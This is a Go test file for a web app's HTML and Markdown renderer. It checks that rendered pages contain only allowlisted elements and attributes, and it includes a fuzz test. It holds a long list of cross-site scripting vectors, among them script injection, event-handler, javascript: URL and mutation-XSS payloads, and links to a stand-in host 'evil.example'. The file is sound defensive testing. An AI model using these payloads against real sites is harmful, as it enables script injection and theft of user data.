package content

import (
	"encoding/base64"
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/ackify/ackify/backend/internal/domain"
)

// allowed is what a page may hold, written down apart from the policy that the code follows.
var allowed = map[string]string{
	"html": "", "head": "", "body": "", "main": "", "title": "", "style": "", "meta": "charset name content",
	"a": "href rel target", "img": "src alt width height", "td": "align colspan rowspan scope abbr", "th": "align colspan rowspan scope abbr",
	"tr": "align", "p": "align", "div": "align tabindex", "col": "span", "colgroup": "span", "time": "datetime", "ins": "datetime", "del": "datetime",
	"ol": "start type reversed", "ul": "type", "li": "value", "details": "open", "abbr": "", "address": "", "article": "", "aside": "", "b": "", "bdi": "",
	"bdo": "", "blockquote": "", "br": "", "caption": "", "cite": "", "code": "", "dd": "", "dfn": "", "dl": "", "dt": "", "em": "", "figcaption": "",
	"figure": "", "footer": "", "h1": "", "h2": "", "h3": "", "h4": "", "h5": "", "h6": "", "header": "", "hgroup": "", "hr": "", "i": "", "kbd": "",
	"mark": "", "nav": "", "pre": "", "q": "", "rp": "", "rt": "", "ruby": "", "s": "", "samp": "", "section": "", "small": "", "span": "", "strong": "",
	"sub": "", "summary": "", "sup": "", "table": "", "tbody": "", "tfoot": "", "thead": "", "u": "", "var": "", "wbr": "",
}

var (
	safeLink   = regexp.MustCompile(`^(https?://[^\s<>"]+|mailto:[^\s<>"]+|#[^\s<>"]+)$`)
	safeImage  = regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*$`)
	safeID     = regexp.MustCompile(`^[\p{L}\p{N}_:.-]+$`)
	knownClass = strings.Fields("footnotes footnote-ref footnote-backref missing-image task table text")
)

// faults lists what a page holds that it must not.
func faults(t testing.TB, page string) []string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var found []string
	styles := 0
	for n := range root.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			found = append(found, "a comment")
		case n.Type != html.ElementNode:
			continue
		}
		attributes, known := allowed[n.Data]
		if !known || n.Namespace != "" {
			found = append(found, "<"+n.Data+">")
		}
		if n.Data == "style" {
			styles++
			if n.Parent.Data != "head" || n.FirstChild == nil || n.FirstChild.Data != style {
				found = append(found, "a style")
			}
		}
		if (n.Data == "meta" || n.Data == "title") && n.Parent.Data != "head" {
			found = append(found, n.Data)
		}
		for _, a := range n.Attr {
			if fault := faultOf(n.Data, attributes, a); fault != "" {
				found = append(found, fmt.Sprintf("<%s %s=%q>: %s", n.Data, a.Key, a.Val, fault))
			}
		}
		if n.Data == "a" && n.Attr != nil {
			found = append(found, linkFaults(n)...)
		}
	}
	if styles != 1 {
		found = append(found, fmt.Sprintf("%d styles", styles))
	}
	return found
}

func faultOf(element, attributes string, a html.Attribute) string {
	if !slices.Contains(strings.Fields("id class lang dir title role "+attributes), a.Key) || a.Namespace != "" {
		return "not allowed"
	}
	switch {
	case a.Key == "href" && (!safeLink.MatchString(a.Val) || strings.ContainsAny(a.Val, "\x00\t\n\r")):
		return "leads where it must not"
	case a.Key == "src" && !safeImage.MatchString(a.Val):
		return "loads something"
	case a.Key == "id" && !safeID.MatchString(a.Val):
		return "no identifier"
	case a.Key == "class" && !slices.Contains(knownClass, a.Val) && !strings.HasPrefix(a.Val, "language-"):
		return "another class"
	case a.Key == "role" && !strings.HasPrefix(a.Val, "doc-"):
		return "another role"
	case a.Key == "tabindex" && a.Val != "0":
		return "moves the focus"
	case a.Key == "target" && a.Val != "_blank", a.Key == "rel" && a.Val != "noopener noreferrer nofollow":
		return "another window"
	case element == "meta" && a.Key == "content" && a.Val != "width=device-width, initial-scale=1":
		return "another meta"
	}
	return ""
}

func linkFaults(n *html.Node) (found []string) {
	given := map[string]string{}
	for _, a := range n.Attr {
		given[a.Key] = a.Val
	}
	out := given["href"] != "" && !strings.HasPrefix(given["href"], "#")
	if out != (given["target"] == "_blank") || out != (given["rel"] != "") {
		found = append(found, fmt.Sprintf("a link with %v", given))
	}
	return found
}

// vectors are ways to run or load something, from OWASP's XSS filter evasion cheat sheet, the tests of HTML sanitisers and published bypasses.
var vectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script>`,
	`<script `, `<script`, `</script><script>alert(1)//`, `<script>`, "<script\x00>alert(1)</script>", `<<script>alert(1);//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`, `<img src=javascript:alert(1)>`,
	`<img src="jav&#x09;ascript:alert(1)">`, `<img src=https://evil.example/pixel.png alt="a picture">`, `<img srcset="https://evil.example/x 1x" src=data:,>`,
	`<img src=//evil.example/x>`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">`, `<img src="data:text/html;base64,PHN2Zy8+">`, `<img src="data:image/png,a">`,
	`<img src="data:image/png;base64,AAAA" onload=alert(1)>`, `<img src='data:image/png;base64,"><script>alert(1)</script>'>`, `<image src=x onerror=alert(1)>`,
	`<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>`, `<img usemap=#m src="data:image/png;base64,AAAA"><map name=m><area href=javascript:alert(1)></map>`,
	`<a href=javascript:alert(1)>a</a>`, `<a href="JaVaScRiPt:alert(1)">a</a>`, `<a href="java&#10;script:alert(1)">a</a>`, `<a href=" &#14;  javascript:alert(1)">a</a>`,
	"<a href=\"\x01javascript:alert(1)\">a</a>", `<a href="javascript&colon;alert(1)">a</a>`, `<a href="data:text/html,<script>alert(1)</script>">a</a>`, `<a href="vbscript:msgbox(1)">a</a>`,
	`<a href="data:image/png;base64,AAAA">a</a>`, `<a href=//evil.example>a</a>`, `<a href=/logout>a</a>`, `<a href=logout>a</a>`, `<a href=?logout>a</a>`, `<a href="http:evil.example">a</a>`, `<a href="https:///x">a</a>`,
	`<a href="file:///etc/passwd">a</a>`, `<a href="blob:https://a/b">a</a>`, `<a href=https://a.example target=_top rel=opener ping=https://evil.example onclick=alert(1)>a</a>`, `<a href="https://a.example/&quot;onmouseover=alert(1)">a</a>`,
	`<a href="#x" target=_parent>a</a>`, `<a name="x y" id="<script>">a</a>`, `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><use href="data:image/svg+xml,<svg/>"/></svg>`, `<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<math href="javascript:alert(1)">a</math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe/src="data:text/html,<svg onload=alert(1)>">`, `<frameset onload=alert(1)><frame src=x></frameset>`,
	`<object data=javascript:alert(1)></object>`, `<object data="data:text/html,x"><param name=x></object>`, `<embed src=javascript:alert(1)>`, `<applet code=x></applet>`, `<portal src=https://evil.example>`,
	`<body onload=alert(1) background=https://evil.example/x>`, `<body lang="&quot;><script>alert(1)</script>">`, `<html lang=en dir=rtl onmouseover=alert(1)><body>a`, `<base href=https://evil.example/>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta charset=utf-7>+ADw-script+AD4-alert(1)`, `<style>@import "https://evil.example"</style>`, `<style><!--</style><script>alert(1)</script>-->`, `<div style="background:url(https://evil.example)">a</div>`,
	`<p style="width:expression(alert(1))" class="evil main" onclick=alert(1)>a</p>`, `<font color=red face="x" onfocus=alert(1)>a</font>`, `<marquee onstart=alert(1)>a</marquee>`, `<blink>a</blink>`,
	`<form action=https://evil.example><input name=password type=password><button formaction=javascript:alert(1)>a</button></form>`, `<input autofocus onfocus=alert(1)>`, `<input type=image src=https://evil.example/x>`, `<isindex action=javascript:alert(1) type=image>`,
	`<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`, `<select><style><img src=x onerror=alert(1)></style></select>`, `<keygen autofocus onfocus=alert(1)>`, `<dialog open onclose=alert(1)>a</dialog>`,
	`<video src=https://evil.example/x onerror=alert(1)><source onerror=alert(1)></video>`, `<audio autoplay src=https://evil.example/x></audio>`, `<video poster=https://evil.example/x>`, `<picture><source srcset=https://evil.example/x><img src=x></picture>`,
	`<details ontoggle=alert(1)><summary>a</summary></details>`, `<table background=https://evil.example/x><td background=https://evil.example/y onmouseover=alert(1)>a</table>`, `<x onclick=alert(1)>a</x>`, `<custom-element is=x>a</custom-element>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>alert(1)</script></template>`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><?php alert(1) ?>`, `<!doctype html [<!ENTITY x "<script>">]>&x;`, `<!--</style><script>alert(1)</script>`, `</main></body></html><script>alert(1)</script>`, `</title></style><script>alert(1)</script>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</p>`, "<p title=`><script>alert(1)</script>`>a", `<p title='"><img src=x onerror=alert(1)>'>a</p>`, "<p\x0bonclick=alert(1)>a", "<p/onclick=alert(1)/x>a", `<p xml:base="javascript:" xmlns="http://www.w3.org/2000/svg">a`,
	`<a href="https://user:pass@evil.example/">a</a>`, `<a href="mailto:a@b.example?subject=x">a</a>`, `<ol start=99999 type="javascript:" reversed=x><li value="1;x">a</ol>`, `<td colspan=99999 rowspan="1 onclick=x" headers=x>a`, `<div tabindex=5 role=button aria-label=x contenteditable draggable=true hidden>a</div>`, `<blockquote cite=javascript:alert(1)>a</blockquote>`,
	"[a](javascript:alert(1))", "[a](<java\nscript:alert(1)>)", "![a](https://evil.example/x.png)", "![a](javascript:alert(1))", "<javascript:alert(1)>", "[a]: javascript:alert(1)\n\n[a]", `[a](https://a.example "onclick=alert(1)")`, "[a](data:text/html,x)", "# a {onclick=alert(1)}", "```js onclick=alert(1)\n<script>\n```", "<https://a.example/\"onclick=alert(1)>", "[x]: # (<script>alert(1)</script>)", "`<script>`", "| <script>alert(1)</script> |\n| --- |", "[^a]\n\n[^a]: <img src=x onerror=alert(1)>", "http://a.example/'onclick=alert(1)//", "ftp://a.example/x",
}

func TestRenderRunsAndLoadsNothing(t *testing.T) {
	t.Parallel()
	r := newRenderer(t)
	whole := strings.Join(vectors, "\n\n")
	for _, vector := range append(slices.Clone(vectors), whole) {
		for _, kind := range []domain.ContentKind{domain.ContentHTML, domain.ContentMarkdown, domain.ContentText} {
			page, err := r.Render(kind, []byte(vector), vector)
			if err != nil {
				t.Errorf("%q as %s: %v", vector, kind, err)
			}
			if found := faults(t, string(page)); found != nil {
				t.Errorf("%q as %s: %q\n%s", vector, kind, found, bodyOf(string(page)))
			}
		}
	}
	if len(vectors) < 40 {
		t.Error("too few vectors")
	}
}

func bodyOf(page string) string {
	_, body, _ := strings.Cut(page, "<main>\n")
	body, _, _ = strings.Cut(body, "\n</main>")
	return body
}

// FuzzRender: whatever it is given, a page holds only what is allowed.
func FuzzRender(f *testing.F) {
	for i, vector := range vectors {
		f.Add([]byte(vector), i%2 == 0)
	}
	sample, err := os.ReadFile("testdata/sample.md")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(sample, true)
	f.Add([]byte("<img src='data:image/png;base64,"+base64.StdEncoding.EncodeToString([]byte(pngFile(f)))+"'>"), false)
	r := newRenderer(f)
	f.Fuzz(func(t *testing.T, content []byte, isMarkdown bool) {
		kind := domain.ContentHTML
		if isMarkdown {
			kind = domain.ContentMarkdown
		}
		page, err := r.Render(kind, content, string(content))
		if err != nil {
			t.Fatal(err)
		}
		if found := faults(t, string(page)); found != nil {
			t.Errorf("%q\n%s", found, bodyOf(string(page)))
		}
		if again := r.sanitise(bodyOf(string(page))); len(again) == 0 && strings.TrimSpace(bodyOf(string(page))) != "" {
			t.Errorf("nothing is left of %q", bodyOf(string(page)))
		}
	})
}
